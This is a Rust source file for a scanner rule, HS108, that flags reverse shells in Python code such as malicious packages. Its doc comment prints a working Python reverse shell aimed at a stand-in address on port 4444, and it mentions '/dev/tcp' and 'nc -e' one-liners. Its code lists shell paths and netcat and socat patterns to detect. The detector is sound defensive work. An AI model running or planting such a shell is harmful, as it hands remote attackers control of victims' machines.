//! # HS108 reverse-shell
//!
//! ## What it does
//!
//! Flags a shell wired to a socket: in one function (or the top level), a
//! socket is created and its descriptor is duplicated onto stdin/stdout
//! (`os.dup2(s.fileno(), 0)`) or handed to a process, and a shell is started
//! (`pty.spawn("/bin/sh")`, `subprocess.call(["/bin/sh", "-i"])`). Also flags
//! shell one-liners that do the same (`bash -i >& /dev/tcp/...`,
//! `nc -e /bin/sh`).
//!
//! ## Why it matters
//!
//! A reverse shell gives whoever listens at the other end an interactive
//! shell with the victim's rights. It has no legitimate place in a library or
//! a coding test; malicious PyPI packages drop the classic
//! `socket` + `dup2` + `pty.spawn` triple into `setup.py` or `__init__.py`.
//!
//! ## Example
//!
//! ```python
//! import os, pty, socket
//! s = socket.socket(); s.connect(("192.0.2.1", 4444))
//! [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
//! pty.spawn("/bin/sh")
//! ```
//!
//! ## False positives
//!
//! Remote-administration and CTF tooling, which should not be a dependency.
//!
//! ## References
//!
//! - MITRE ATT&CK T1059.006, T1571
//! - THREATS.md §1.4 (install-time hooks)

use crate::python::tree::Node;
use crate::python::{Call, Module, fold, names};
use crate::report::Severity;
use crate::rules::{Checker, Meta, Rule};

pub struct ReverseShell;

static META: Meta = crate::rule_meta!("HS108", "reverse-shell", Critical, High);

const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "cmd.exe",
    "powershell",
    "bash -i",
    "sh -i",
];
const ONE_LINERS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc.exe -e",
    "nc -c",
    "socat exec:",
    "socat tcp",
];

impl Rule for ReverseShell {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        for unit in m.units() {
            let calls: Vec<&Call<'_>> = m.calls_in_unit(unit).collect();
            let socket = calls.iter().any(|c| {
                c.qname.as_deref().is_some_and(|q| {
                    q == "socket.socket" || q == "socket.create_connection" || q == "socket.fromfd"
                })
            });
            let wired = calls.iter().any(|c| {
                (c.is("os.dup2") && c.arg(0).is_some_and(|a| is_socket_fd(m, a)))
                    || (c.qname.as_deref().is_some_and(names::is_spawn)
                        && ["stdin", "stdout", "stderr"]
                            .iter()
                            .any(|k| c.kwarg(k).is_some_and(|v| is_socket_fd(m, v))))
            });
            let shell = calls.iter().find(|c| {
                c.is("pty.spawn")
                    || (c.qname.as_deref().is_some_and(names::is_spawn)
                        && c.arg(0).is_some_and(|a| {
                            let t = fold::template(m, a).to_ascii_lowercase();
                            SHELLS.iter().any(|s| t.contains(s))
                                || t.trim() == "sh"
                                || t.trim() == "bash"
                        }))
            });
            if socket
                && wired
                && let Some(shell) = shell
            {
                checker.report(
                    &META,
                    shell.node,
                    Severity::Critical,
                    m.context(shell.scope),
                    "a shell is started with its input and output wired to a socket",
                );
            }
            for c in &calls {
                if !c.qname.as_deref().is_some_and(names::is_spawn) {
                    continue;
                }
                let Some(a) = c.arg(0) else { continue };
                let t = fold::template(m, a).to_ascii_lowercase();
                if let Some(p) = ONE_LINERS.iter().find(|p| t.contains(*p)) {
                    checker.report(
                        &META,
                        c.node,
                        Severity::Critical,
                        m.context(c.scope),
                        format!("a reverse-shell command line (`{}`) is started", p.trim()),
                    );
                }
            }
        }
    }
}

/// Whether `node` is a socket's file descriptor (`s.fileno()` with `s` a
/// socket), or a socket object itself.
fn is_socket_fd(m: &Module<'_>, node: Node<'_>) -> bool {
    let scope = m.scope_at(node);
    crate::python::names::resolve(m, node, scope).is_some_and(|q| {
        q.starts_with("socket.socket()")
            || q.starts_with("socket.create_connection()")
            || q.starts_with("socket.fromfd()")
            || q.starts_with("socket.socket().accept()")
    })
}
